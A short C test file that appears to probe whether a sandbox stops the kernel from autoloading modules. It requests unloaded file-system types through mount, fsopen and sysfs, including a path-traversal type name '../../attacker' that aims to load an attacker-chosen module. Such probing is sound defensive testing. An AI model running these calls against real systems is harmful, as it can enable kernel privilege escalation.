/* Has the kernel load modules by asking for file systems that it has not (request_module, CVE-2013-1959's class). */
#include "common/attack.h"

static void attempt(void) {
    static const char *kinds[] = {"configfs", "fuse", "xfs", "btrfs", "squashfs", "9p", "nfs", "../../attacker"};
    const char *place = own("place");
    mkdir(place, 0777);
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        said(kinds[i], mount("none", place, kinds[i], 0, NULL));
        said("fsopen", syscall(SYS_fsopen, kinds[i], 0));
        said("sysfs", syscall(SYS_sysfs, 1, kinds[i]));
    }
}
